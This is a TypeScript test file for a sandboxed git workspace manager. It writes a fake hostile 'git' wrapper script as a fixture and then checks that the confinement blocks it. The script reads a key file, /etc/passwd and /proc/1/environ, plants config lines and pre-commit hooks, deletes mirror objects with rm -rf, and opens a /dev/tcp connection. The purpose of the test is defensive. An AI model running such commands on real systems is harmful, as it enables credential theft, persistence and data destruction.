/**
 * Git that was taken over by what it read in a worktree: at each command that looks there, a program in git's place does what
 * it can, and then what git would have done.
 */

import { afterAll, describe, expect, it } from '@jest/globals';
import { once } from 'node:events';
import { existsSync, readFileSync } from 'node:fs';
import { chmod, mkdir, readFile, writeFile } from 'node:fs/promises';
import { createServer } from 'node:net';
import { join } from 'node:path';
import { originKey } from '../../src/git/repository.ts';
import { createGitRoom } from '../../src/git/room.ts';
import {
  built,
  bareOrigin,
  confine,
  git,
  itemOf,
  prepared,
  stored,
  taskId,
  TASKS_YAML,
  write,
} from '../support/git-rig.ts';
import { tempFolder } from '../support/temp.ts';

const isHeld = confine !== null;
const test = isHeld ? it : it.skip;

describe('git that looks at a worktree', () => {
  let calls = 0;
  const server = createServer(() => (calls += 1));
  afterAll(() => {
    server.close();
  });

  test(`hurts and reads nothing but that workspace${isHeld ? '' : ' (skipped: bubblewrap is missing)'}`, async () => {
    const { target, origin } = await bareOrigin({
      '.gitignore': 'ignored\n',
      'a.txt': 'a\n',
      'tasks.yaml': TASKS_YAML,
    });
    const home = await tempFolder('home');
    const tools = await tempFolder('tools');
    server.listen(0, '127.0.0.1');
    await once(server, 'listening');
    const address = server.address();
    const port = typeof address === 'object' ? address?.port : null;
    const key = join(await tempFolder('key'), 'key');
    await writeFile(key, 'of the person\n');

    await writeFile(
      join(tools, 'git'),
      `#!/bin/bash
if [ -n "$GIT_WORK_TREE" ]; then
  desk="\${GIT_INDEX_FILE%/*}"
  printf '%s\\n' "$*" >> "$desk/seen"
  cat ${key} ${home}/workspaces/*/*/state.json /etc/passwd /proc/1/environ >> "$desk/stolen"
  for place in ${home} ${home}/mirrors/*.git ${home}/mirrors/*.engine "$GIT_DIR" ${origin} ${tools}; do
    echo hurt > "$place/hurt"; echo hurt >> "$place/config"; mkdir -p "$place/hooks"; echo hurt > "$place/hooks/pre-commit"
  done
  rm -rf ${home}/mirrors/*.git/objects/*
  : < /dev/tcp/127.0.0.1/${port}
fi 2> /dev/null
/usr/bin/git "$@"
code=$?
# In the way of the next one, where the engine comes to look anew.
case "$*" in write-tree|clean*) for name in store store.lock new.lock; do mkdir -p "$desk/$name/x"; done; ln -sf ${key} "$desk/work.lock" ;; esac 2> /dev/null
exit $code
`,
    );
    await chmod(join(tools, 'git'), 0o755);
    const room = createGitRoom({ home, worker: 'test', processHome: home, gitPath: join(tools, 'git'), confine });

    const name = originKey(target);
    const desks = [join(home, 'workspaces', target.project, taskId, 'desk'), join(home, 'gates', name, '1.desk')];
    // A workspace's desk is cleared with each attempt.
    const seen = new Set<string>();
    const stolen: string[] = [];
    const lookAt = (desk = ''): void => {
      for (const line of readFileSync(join(desk, 'seen'), 'utf8').split('\n')) seen.add(line);
      stolen.push(readFileSync(join(desk, 'stolen'), 'utf8'));
    };

    const first = await prepared(room, target);
    await write(first.worktree, { 'a.txt': 'changed\n', 'new/b.txt': 'b\n', ignored: 'x\n' });
    const attempt = { project: target.project, origin, workspace: first, attempt: 1 };
    expect(await room.beginAttempt(attempt)).toBeNull();
    expect((await room.storeUnfinished(attempt)).kind).toBe('stored');
    await write(first.worktree, { 'a.txt': 'changed again\n' });
    expect((await room.storeUnfinished(attempt)).kind).toBe('stored');
    await stored(room, target, first);
    lookAt(desks[0]);
    // The same worktree again, after what nobody has stored.
    const second = await prepared(room, target, 2);
    await write(second.worktree, { 'a.txt': 'again\n', 'left/c.txt': 'c\n' });
    const third = await prepared(room, target, 3);
    expect(await git(third.worktree, 'status', '--porcelain')).toBe('');
    await write(third.worktree, { 'a.txt': 'at last\n' });
    const item = itemOf(await stored(room, target, third, 3));
    lookAt(desks[0]);
    const candidate = await built(room, target, item);
    for (let round = 0; round < 2; round += 1) {
      const gate = await room.gateWorktree(target, item, candidate);
      expect(await readFile(join(gate.path, 'a.txt'), 'utf8')).toBe('at last\n');
      await mkdir(join(gate.path, 'left'));
      await gate.release();
    }

    lookAt(desks[1]);
    for (const command of ['add -A', 'ls-files', 'read-tree --reset -u', 'clean -ffdq', 'status', 'update-index'])
      expect([...seen].filter((line) => line.startsWith(command))).not.toEqual([]);
    expect(stolen.join('')).toBe('');
    expect(readFileSync(key, 'utf8')).toBe('of the person\n');
    const mirror = join(home, 'mirrors', `${name}.git`);
    const engine = join(home, 'mirrors', `${name}.engine`);
    for (const place of [home, mirror, engine, origin, tools]) {
      expect(existsSync(join(place, 'hurt'))).toBe(false);
      expect(existsSync(join(place, 'hooks/pre-commit'))).toBe(false);
      const config = join(place, 'config');
      expect(existsSync(config) && readFileSync(config, 'utf8').includes('hurt')).toBe(false);
    }
    expect(await git(mirror, 'cat-file', '-t', candidate.commit)).toBe('commit');
    expect(calls).toBe(0);
  });
});
